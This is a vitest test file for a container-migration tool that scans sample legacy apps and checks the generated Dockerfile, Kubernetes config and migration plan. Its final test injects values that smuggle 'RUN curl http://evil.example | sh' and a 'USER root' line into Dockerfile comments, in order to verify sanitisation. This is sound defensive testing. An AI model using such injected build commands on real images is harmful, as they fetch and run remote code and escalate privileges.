/**
 * Remedies for messaging, native code and process execution on the sample apps, through the real
 * scan: every such finding is named in the plan, the Dockerfile lists what the image must contain
 * where the image author installs things, and the broker is bound by variables in the ConfigMap and
 * the Secret template.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import { parse } from 'yaml';
import { generate } from '../../adapters/index.js';
import { CONCERN_INFO, type Concern, type Finding, type ScanResult } from '../../core/index.js';
import { REPO_ROOT, runCli, tempDir } from '../helpers.js';
import { finding, scanResult, shimBundle } from './helpers.js';

vi.setConfig({ testTimeout: 300_000 });

type Obj = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any

interface Generated {
  root: string;
  report: ScanResult;
  read(p: string): string;
}

/** Scan to a report, then generate from it: the findings the assertions iterate are the ones generate saw. */
function generateSample(app: string): Generated {
  const root = path.join(REPO_ROOT, 'fixtures', app);
  const report = path.join(tempDir(), 'report.json');
  const scan = runCli(['scan', root, '--format', 'json', '--output', report, '--no-cache', '-q']);
  expect(scan.code, scan.stderr).toBe(0);
  const out = path.join(tempDir(), 'out');
  const gen = runCli(['generate', '--from', report, root, '--out', out]);
  expect(gen.code, gen.stderr).toBe(0);
  return { root, report: JSON.parse(readFileSync(report, 'utf8')) as ScanResult, read: (p) => readFileSync(path.join(out, p), 'utf8') };
}

const active = (r: ScanResult, concern: string) => r.findings.filter((f) => !f.suppressed && f.concern === concern);
const at = (f: Finding) => `${f.file}:${f.line}`;

/** The `# needs:` comment lines, and where they sit among the instructions of the last stage. */
function needsOf(dockerfile: string): { lines: string[]; index: number[]; all: string[] } {
  const all = dockerfile.split('\n');
  const index = all.map((l, i) => (l.startsWith('# needs: ') ? i : -1)).filter((i) => i >= 0);
  return { lines: index.map((i) => all[i]!.slice('# needs: '.length)), index, all };
}

/** The part of the plan for one concern (its `## n. … (concern)` section). */
function planSection(plan: string, concern: string): string {
  const start = plan.search(new RegExp(`^## \\d+\\. .*\\(${concern}\\)$`, 'm'));
  expect(start, concern).toBeGreaterThanOrEqual(0);
  const rest = plan.slice(start + 1);
  const end = rest.search(/^## /m);
  return end < 0 ? rest : rest.slice(0, end);
}

/**
 * Concerns the plan lists generated files for: the reports read what generate produces from the
 * catalog (core/remedies.ts), so each of them needs its text there or the HTML report calls it manual.
 */
function generatedConcerns(plan: string): Concern[] {
  const out: Concern[] = [];
  for (const m of plan.matchAll(/^## \d+\. .*\(([a-z-]+)\)\n([\s\S]*?)(?=^## |(?![\s\S]))/gm)) {
    const generated = /^### Generated\n\n((?:- .*\n)+)/m.exec(m[2]!)?.[1] ?? '';
    if (/^- `/m.test(generated)) out.push(m[1] as Concern);
  }
  return out;
}

function lineOf(file: string, needle: string): number {
  const i = readFileSync(file, 'utf8').split('\n').findIndex((l) => l.includes(needle));
  expect(i, needle).toBeGreaterThanOrEqual(0);
  return i + 1;
}

describe('sample-legacy-javaee: native library, external command, JMS', () => {
  let g: Generated;
  beforeAll(() => {
    g = generateSample('sample-legacy-javaee');
  });

  it('the Dockerfile names the native library and the command, in the runtime stage before USER', () => {
    const d = g.read('Dockerfile');
    const { lines, index, all } = needsOf(d);
    const printer = 'src/main/java/com/acmeshop/orders/util/LabelPrinter.java';
    const servlet = 'src/main/java/com/acmeshop/orders/web/ReportServlet.java';
    expect(lines).toContain(`libzebraprint.so (System.loadLibrary at ${printer}:${lineOf(path.join(g.root, printer), 'loadLibrary')}; native method printLabel at ${printer}:${lineOf(path.join(g.root, printer), 'native int printLabel')})`);
    expect(lines).toContain(`/usr/local/bin/wkhtmltopdf (Runtime.exec at ${servlet}:${lineOf(path.join(g.root, servlet), 'getRuntime().exec')})`);
    const lastFrom = all.map((l, i) => (l.startsWith('FROM ') ? i : -1)).filter((i) => i >= 0).pop()!;
    const user = all.findIndex((l) => l.startsWith('USER '));
    for (const i of index) expect(i > lastFrom && i < user, all[i]).toBe(true);
    // every native-code and process-exec finding is accounted for in the Dockerfile
    for (const f of [...active(g.report, 'native-code'), ...active(g.report, 'process-exec')]) expect(d, at(f)).toContain(at(f));
  });

  it('the plan lists what the image must contain and generated pieces instead of "no generated remedy"', () => {
    const plan = g.read('MIGRATION.md');
    for (const [concern, thing] of [['native-code', 'libzebraprint.so'], ['process-exec', '/usr/local/bin/wkhtmltopdf']] as const) {
      const s = planSection(plan, concern);
      expect(s).toContain('### What the image must contain');
      expect(s).toMatch(new RegExp(`^\\| ${thing.replace(/[./]/g, '\\$&')} \\|`, 'm'));
      expect(s).toContain('- `Dockerfile`');
      expect(s).not.toContain('no generated remedy');
      for (const f of active(g.report, concern)) expect(s, at(f)).toContain(`\`${at(f)}\``);
    }
  });

  it('every concern with generated files has catalog text for the reports', () => {
    const concerns = generatedConcerns(g.read('MIGRATION.md'));
    expect(concerns).toEqual(expect.arrayContaining(['messaging', 'native-code', 'process-exec']));
    for (const c of concerns) expect(CONCERN_INFO[c].generates, c).toBeTruthy();
  });

  it('messaging: one row per finding with the service to bind; broker variables in the ConfigMap, Secret and .env.example', () => {
    const s = planSection(g.read('MIGRATION.md'), 'messaging');
    const rows = s.split('\n').filter((l) => /^\| `[^`]+:\d+` /.test(l));
    const found = active(g.report, 'messaging');
    expect(rows.map((r) => /^\| `([^`]+)`/.exec(r)![1])).toEqual(found.map(at));
    for (const r of rows) expect(r).toContain('JMS provider');
    expect(rows.find((r) => r.includes('OrderConfirmationMDB'))).toContain('`jms/OrderQueue`');
    const cm = (parse(g.read('k8s/configmap.yaml')) as Obj).data;
    expect(cm.JMS_BROKER_URL).toMatch(/^tcp:\/\//);
    expect(cm).toHaveProperty('JMS_USER');
    expect(cm).not.toHaveProperty('JMS_PASSWORD');
    expect((parse(g.read('k8s/secret.template.yaml')) as Obj).stringData.JMS_PASSWORD).toBe('REPLACE_ME');
    expect(g.read('.env.example')).toMatch(/^JMS_PASSWORD=$/m);
    // the in-VM broker URL the code hard-codes is what JMS_BROKER_URL replaces
    const broker = found.find((f) => f.captures?.value?.startsWith('vm://'))!;
    expect(g.read('MIGRATION.md')).toMatch(new RegExp(`^\\| \`JMS_BROKER_URL\` \\| no \\| .* \\| \`${at(broker).replace(/[./]/g, '\\$&')}\``, 'm'));
    expect(s).toMatch(/^- `k8s\/configmap\.yaml`$/m);
  });
});

describe('sample-legacy-node: native addons, an external command, an in-memory job queue', () => {
  let g: Generated;
  beforeAll(() => {
    g = generateSample('sample-legacy-node');
  });

  it('the Dockerfile names the addons and the command before npm ci', () => {
    const d = g.read('Dockerfile');
    const { lines, index, all } = needsOf(d);
    expect(lines).toContain('convert (child_process.execFile at services/images.js:7)');
    expect(lines.some((l) => l.startsWith('checksum.node ') && l.endsWith('(bindings at lib/checksum.js:7)'))).toBe(true);
    expect(lines.some((l) => l.startsWith('bcrypt@^5.1.0 '))).toBe(true);
    const npmCi = all.findIndex((l) => l.startsWith('RUN npm ci'));
    for (const i of index) expect(i).toBeLessThan(npmCi);
    for (const f of [...active(g.report, 'native-code'), ...active(g.report, 'process-exec')]) expect(d, at(f)).toContain(at(f));
  });

  it('the in-memory queue gets a durable queue to bind, by QUEUE_URL', () => {
    const s = planSection(g.read('MIGRATION.md'), 'messaging');
    for (const f of active(g.report, 'messaging')) expect(s).toMatch(new RegExp(`^\\| \`${at(f).replace(/[./]/g, '\\$&')}\` .*durable job queue.*\`QUEUE_URL\``, 'm'));
    expect((parse(g.read('k8s/configmap.yaml')) as Obj).data.QUEUE_URL).toMatch(/^redis:\/\//);
    expect(s).not.toContain('durable subscriptions');
  });

  it('every concern with generated files has catalog text for the reports', () => {
    const concerns = generatedConcerns(g.read('MIGRATION.md'));
    expect(concerns).toEqual(expect.arrayContaining(['messaging', 'native-code', 'process-exec']));
    for (const c of concerns) expect(CONCERN_INFO[c].generates, c).toBeTruthy();
  });
});

describe('values from the scanned code in the Dockerfile', () => {
  it('a command or library name cannot break out of its comment line', () => {
    const files = generate(
      scanResult([
        finding({ file: 'src/main/java/a/Evil.java', line: 3, ruleId: 'java/native-library-load', concern: 'native-code', captures: { method: 'loadLibrary', type: 'java.lang.System', value: 'x\nRUN curl http://evil.example | sh' } }),
        finding({ file: 'lib/run.js', line: 2, ruleId: 'node/child-process-exec', concern: 'process-exec', captures: { call: 'child_process.exec', value: 'tool\r\nUSER root' } }),
      ]),
      { name: 'app', unit: { cpu: '1', memory: '1Gi' }, units: 1, runtime: { language: 'java', container: 'jar' }, files: ['pom.xml'], shim: shimBundle() },
    );
    const d = files.find((f) => f.path === 'Dockerfile')!.contents;
    expect(d).not.toMatch(/^RUN curl/m);
    expect(d.split('\n').filter((l) => l.startsWith('USER '))).toEqual(['USER 10001']);
    expect(needsOf(d).lines.sort()).toEqual(['tool (child_process.exec at lib/run.js:2)', 'x RUN curl http://evil.example | sh (System.loadLibrary at src/main/java/a/Evil.java:3)']);
  });
});
